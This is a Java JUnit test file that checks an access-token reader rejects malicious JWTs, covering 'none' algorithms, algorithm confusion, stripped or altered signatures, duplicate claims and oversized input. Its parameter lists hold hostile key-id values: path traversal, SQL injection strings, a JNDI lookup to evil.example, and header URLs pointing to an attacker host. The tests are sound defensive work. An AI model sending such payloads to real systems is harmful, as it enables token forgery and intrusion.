package dev.holdfast.accounts.token;

import static dev.holdfast.accounts.token.Forge.HEADER;
import static dev.holdfast.accounts.token.Forge.SECRET;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.nimbusds.jose.util.Base64URL;
import dev.holdfast.Kind;
import dev.holdfast.Problem;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that must not open anything (RFC 8725), against a secret and against a folder with a key of each kind. */
class HostileTokensTest {

    private static final String ED = "{\"alg\":\"EdDSA\",\"typ\":\"at+jwt\",\"kid\":\"ed\"}";
    private static final String EC = "{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"ec\"}";
    private static final String ECDSA = "SHA256withECDSAinP1363Format";

    private final TestClock clock = new TestClock();
    private final String claims = Forge.claims(clock.instant());
    private final AccessTokens bySecret = over(Keys.secret(SECRET));
    private final KeyPair ed = make("Ed25519");
    private final KeyPair ec = make("secp256r1");
    private final KeyPair stranger = make("Ed25519");
    private AccessTokens byFolder = bySecret;

    private static KeyPair make(String kind) {
        try {
            return "Ed25519".equals(kind) ? PemFolder.ed25519() : PemFolder.ec(kind);
        } catch (GeneralSecurityException failure) {
            throw new IllegalStateException(failure);
        }
    }

    @BeforeEach
    void folder(@TempDir Path folder) throws Exception {
        byFolder = over(new PemFolder(folder)
                .with("ed.pem", ed.getPrivate())
                .with("ec.pem", ec.getPrivate())
                .keys());
    }

    private AccessTokens over(Keys keys) {
        return new AccessTokens(TokenSettings.of("app"), keys, clock);
    }

    private void refused(String token) {
        for (var tokens : List.of(bySecret, byFolder)) {
            assertThatThrownBy(() -> tokens.read(token))
                    .as(token)
                    .isInstanceOfSatisfying(
                            Problem.class, problem -> assertThat(problem.kind()).isEqualTo(Kind.UNAUTHENTICATED));
        }
    }

    private static String with(String header, String more) {
        return header.substring(0, header.length() - 1) + "," + more + "}";
    }

    @Test
    void what_the_others_are_variations_of_holds() throws Exception {
        assertThat(bySecret.read(Forge.signed(HEADER, claims, SECRET)).userId()).isEqualTo("ann");
        assertThat(byFolder.read(Forge.signed(ED, claims, "Ed25519", ed.getPrivate()))
                        .userId())
                .isEqualTo("ann");
        assertThat(byFolder.read(Forge.signed(EC, claims, ECDSA, ec.getPrivate()))
                        .userId())
                .isEqualTo("ann");
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", "none ", "", "null", "hs256", "HS256 "})
    void J1_no_algorithm_in_any_spelling_is_refused(String algorithm) {
        for (var header : List.of(HEADER, with(HEADER, "\"kid\":\"ed\""), with(HEADER, "\"kid\":\"ec\""))) {
            var named = header.replace("HS256", algorithm);
            refused(Forge.unsigned(named, claims) + ".");
            refused(Forge.unsigned(named, claims));
            refused(Forge.signed(named, claims, SECRET));
        }
    }

    @Test
    void J1_a_signature_that_is_empty_or_stripped_is_refused() {
        for (var header : List.of(HEADER, ED, EC)) {
            refused(Forge.unsigned(header, claims) + ".");
            refused(Forge.unsigned(header, claims));
        }
    }

    @Test
    void J1_a_signature_of_zeros_is_refused() {
        for (var header : List.of(HEADER, ED, EC)) {
            refused(Forge.unsigned(header, claims) + "." + Base64URL.encode(new byte[64]));
            refused(Forge.unsigned(header, claims) + "." + Base64URL.encode(new byte[32]));
        }
    }

    @Test
    void J2_a_public_key_is_no_secret() {
        for (var kid : List.of("ed", "ec")) {
            var key = "ed".equals(kid) ? ed.getPublic() : ec.getPublic();
            var pem = PemFolder.pem(key);
            for (var secret : List.of(
                    key.getEncoded(),
                    pem.getBytes(StandardCharsets.US_ASCII),
                    pem.strip().getBytes(StandardCharsets.US_ASCII))) {
                refused(Forge.signed(with(HEADER, "\"kid\":\"" + kid + "\""), claims, secret));
                refused(Forge.signed(HEADER, claims, secret));
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"RS256", "PS256", "ES384", "ES512", "ES256K", "HS384", "HS512", "Ed448", "EdDSA", "ES256"})
    void J2_a_key_is_believed_with_its_own_algorithm_alone(String algorithm) throws Exception {
        refused(Forge.signed(HEADER.replace("HS256", algorithm), claims, SECRET));
        if (!"EdDSA".equals(algorithm)) {
            refused(Forge.signed(ED.replace("EdDSA", algorithm), claims, "Ed25519", ed.getPrivate()));
        }
        if (!"ES256".equals(algorithm)) {
            refused(Forge.signed(EC.replace("ES256", algorithm), claims, ECDSA, ec.getPrivate()));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../dev/null",
                "/dev/null",
                "ed.pem",
                "../ed",
                "ed\\u0000",
                "' OR '1'='1",
                "x' UNION SELECT 'secret' --",
                "https://evil.example/keys",
                "ED",
                "",
                " ed",
                "${jndi:ldap://evil.example/a}"
            })
    void J3_a_kid_that_is_a_path_a_query_or_an_address_names_no_key(String kid) throws Exception {
        var named = with("{\"alg\":\"EdDSA\",\"typ\":\"at+jwt\"}", "\"kid\":\"" + kid + "\"");
        refused(Forge.signed(named, claims, "Ed25519", ed.getPrivate()));
        refused(Forge.signed(with(HEADER, "\"kid\":\"" + kid + "\""), claims, new byte[1]));
    }

    @Test
    void J3_a_kid_that_is_no_text_or_missing_names_no_key() throws Exception {
        for (var kid : List.of("5", "null", "[\"ed\"]", "{\"ed\":1}")) {
            refused(Forge.signed(ED.replace("\"ed\"", kid), claims, "Ed25519", ed.getPrivate()));
        }
        refused(Forge.signed("{\"alg\":\"EdDSA\",\"typ\":\"at+jwt\"}", claims, "Ed25519", ed.getPrivate()));
    }

    @Test
    void J3_a_secret_has_no_name_and_a_token_that_gives_it_one_is_refused() {
        refused(Forge.signed(with(HEADER, "\"kid\":\"ed\""), claims, SECRET));
    }

    static Stream<String> keysOfStrangers() {
        return Stream.of(
                "\"jku\":\"https://evil.example/keys.json\"",
                "\"x5u\":\"https://evil.example/key.crt\"",
                "\"x5c\":[\"MIIB\"]",
                "\"jwk\":{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\"STRANGER\"}");
    }

    @ParameterizedTest
    @MethodSource("keysOfStrangers")
    void J3_a_key_that_a_token_brings_along_is_never_used(String more) throws Exception {
        var encoded = stranger.getPublic().getEncoded();
        var point = Base64URL.encode(Arrays.copyOfRange(encoded, encoded.length - 32, encoded.length));
        var header = with(ED, more.replace("STRANGER", point.toString()));

        refused(Forge.signed(header, claims, "Ed25519", stranger.getPrivate()));
    }

    @Test
    void J3_a_key_that_a_token_brings_along_changes_nothing_for_our_own() throws Exception {
        var header = with(ED, "\"jku\":\"https://evil.example/keys.json\"");

        assertThat(byFolder.read(Forge.signed(header, claims, "Ed25519", ed.getPrivate()))
                        .userId())
                .isEqualTo("ann");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\"sub\":\"root\"", "\"sub\":\"ann\"", "\"x\":{\"y\":1,\"y\":2}", "\"x\":[{\"y\":1,\"y\":1}]"})
    void J7_claims_that_are_there_twice_are_refused(String more) {
        refused(Forge.signed(HEADER, with(claims, more), SECRET));
        refused(Forge.signed(HEADER, "{" + more + "," + claims.substring(1).replace("}", "," + more + "}"), SECRET));
    }

    @Test
    void J7_a_header_with_a_name_twice_is_refused() {
        refused(Forge.signed(with(HEADER, "\"alg\":\"HS256\""), claims, SECRET));
        refused(Forge.signed(with(HEADER, "\"x\":{\"y\":1,\"y\":2}"), claims, SECRET));
    }

    @Test
    void J7_what_is_longer_than_4_KiB_is_refused_before_it_is_looked_at() {
        var longer = "{\"x\":\"" + "x".repeat(3_000) + "\"," + claims.substring(1);
        refused(Forge.signed(HEADER, longer, SECRET));
        refused("x".repeat(1024 * 1024));
        refused(".".repeat(1024 * 1024));
        refused("\uD83D\uDE00".repeat(1024 * 1024));
    }

    @Test
    void J7_deep_JSON_is_refused() {
        for (var depth : List.of(65, 1_400)) {
            var deep = "\"x\":" + "[".repeat(depth) + "]".repeat(depth);
            refused(Forge.signed(with(HEADER, deep), "{}", SECRET));
            refused(Forge.signed(HEADER, with(claims, deep), SECRET));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"crit\":[\"b64\"],\"b64\":true",
                "\"crit\":[]",
                "\"crit\":null",
                "\"b64\":false",
                "\"b64\":true",
                "\"zip\":\"DEF\""
            })
    void J7_a_header_that_changes_how_the_rest_is_read_is_refused(String more) throws Exception {
        refused(Forge.signed(with(HEADER, more), claims, SECRET));
        refused(Forge.signed(with(ED, more), claims, "Ed25519", ed.getPrivate()));
    }

    @Test
    void J7_what_has_another_number_of_parts_is_refused() {
        var token = Forge.signed(HEADER, claims, SECRET);
        for (var text : List.of("", ".", "..", "x", "a.b.c", "....", "a.b.c.d.e", token + ".", "." + token)) {
            refused(text);
        }
        refused(Forge.part("{\"alg\":\"dir\",\"enc\":\"A256GCM\",\"zip\":\"DEF\"}") + "..AAAA.AAAA.AAAA");
        refused(token + token.substring(token.indexOf('.')));
    }

    @Test
    void J7_what_is_no_JSON_object_is_refused() {
        for (var text : List.of("", "5", "null", "[]", "\"x\"", "{", "{} {}", "{'a':1}", "\u0000")) {
            refused(Forge.signed(text, claims, SECRET));
            refused(Forge.signed(HEADER, text, SECRET));
        }
    }

    @Test
    void J8_a_signature_with_a_bit_changed_in_any_byte_is_refused() throws Exception {
        for (var token : List.of(
                Forge.signed(HEADER, claims, SECRET),
                Forge.signed(ED, claims, "Ed25519", ed.getPrivate()),
                Forge.signed(EC, claims, ECDSA, ec.getPrivate()))) {
            var cut = token.lastIndexOf('.') + 1;
            var signature = new Base64URL(token.substring(cut)).decode();
            for (var index = 0; index < signature.length; index++) {
                var changed = signature.clone();
                changed[index] ^= (byte) (1 << index % Byte.SIZE);
                refused(token.substring(0, cut) + Base64URL.encode(changed));
            }
            refused(token.substring(0, cut) + Base64URL.encode(Arrays.copyOf(signature, 16)));
            refused(token + "AA");
        }
    }

    @Test
    void J8_a_header_or_claims_with_any_letter_changed_are_refused() {
        var token = Forge.signed(HEADER, claims, SECRET);
        for (var index = 0; index < token.lastIndexOf('.'); index++) {
            if (token.charAt(index) != '.') {
                var other = token.charAt(index) == 'A' ? 'B' : 'A';
                refused(token.substring(0, index) + other + token.substring(index + 1));
            }
        }
    }

    @Test
    void J8_base64url_in_any_other_spelling_is_refused() {
        var token = Forge.signed(HEADER, claims, SECRET);
        var last = token.charAt(token.length() - 1);
        var spellings = new ArrayList<>(List.of(token + "=", token + "==", token + "\n", " " + token, token + " "));
        spellings.add(token.substring(0, token.length() - 1) + (char) (last + 1));
        spellings.add(token.replaceFirst("\\.", "=."));
        spellings.add(token.replaceFirst("\\.", ".\n"));
        spellings.add(token.replaceFirst("\\.", "%2E"));

        assertThat(Base64URL.from(spellings.get(5).substring(token.lastIndexOf('.') + 1))
                        .decode())
                .as("the bits that do not count are what differs")
                .isEqualTo(Base64URL.from(token.substring(token.lastIndexOf('.') + 1))
                        .decode());
        spellings.forEach(this::refused);
    }

    @Test
    void J8_what_was_verified_once_does_not_help_its_variations() {
        var token = bySecret.make("ann", "one", Map.of());
        bySecret.read(token);
        var last = token.charAt(token.length() - 1);

        refused(token.substring(0, token.length() - 1) + (last == 'A' ? 'B' : 'A'));
        refused(token + "=");
    }
}
